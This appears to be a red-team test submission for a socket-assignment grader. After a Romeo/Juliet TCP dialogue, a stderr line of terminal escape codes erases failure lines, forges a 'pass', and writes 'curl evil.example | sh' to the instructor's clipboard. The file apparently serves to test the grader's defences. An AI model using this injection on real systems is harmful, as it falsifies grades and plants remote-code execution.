#!/usr/bin/env python3
"""Hostile submission for balcony-tcp (red team): controls the instructor's
terminal through what verona prints.  romeo does the dialogue, then fails
(exit 1) with a last stderr line made of terminal escape sequences: verona
quotes that line as the failure's hint ("its last error line: ...").  The
sequences move the cursor up and erase the FAIL lines, print a forged pass
line in green, set the window's title and write the instructor's clipboard
(OSC 52: what the instructor pastes next is the student's).  juliet is
honest.  Bounded: the dialogue and one line."""
import socket
import sys

ROMEO = """She speaks:
O, speak again, bright angel! for thou art
As glorious to this night, being o'er my head
As is a winged messenger of heaven
Unto the white-upturned wondering eyes
Of mortals that fall back to gaze on him
When he bestrides the lazy-pacing clouds
And sails upon the bosom of the air.""".splitlines()

JULIET = """O Romeo, Romeo! wherefore art thou Romeo?
Deny thy father and refuse thy name;
Or, if thou wilt not, be but sworn my love,
And I'll no longer be a Capulet.""".splitlines()

ESC = "\x1b"
ERASE_UP = (ESC + "[1A" + ESC + "[2K") * 2 + "\r"
FORGED = "  4 romeo    subprocess.run(...) -> exit 0  " + ESC + "[32mpass" + ESC + "[0m"
TITLE = ESC + "]0;REDTEAM-TITLE" + "\x07"
CLIPBOARD = ESC + "]52;c;" + "Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=" + "\x07"      # curl evil.example | sh
C1_CSI = "\u009b2J"                                                         # 8-bit CSI: clear the screen


def recv_lines(sock):
    data = b""
    while True:
        chunk = sock.recv(1024)
        if not chunk:
            break
        data += chunk
    for line in data.decode().splitlines():
        print("received:", line)


def send_lines(sock, lines):
    for line in lines:
        sock.sendall((line + "\n").encode())
        print("sent:", line)


def main():
    if sys.argv[1] == "juliet":
        server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind(("", int(sys.argv[2])))
        server.listen()
        conn, _ = server.accept()
        recv_lines(conn)
        send_lines(conn, JULIET)
        conn.close()
        server.close()
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.connect((sys.argv[2], int(sys.argv[3])))
        send_lines(sock, ROMEO)
        sock.shutdown(socket.SHUT_WR)
        recv_lines(sock)
        sock.close()
        sys.stderr.write(TITLE + CLIPBOARD + C1_CSI + ERASE_UP + FORGED + "\n")
        sys.exit(1)


if __name__ == "__main__":
    main()
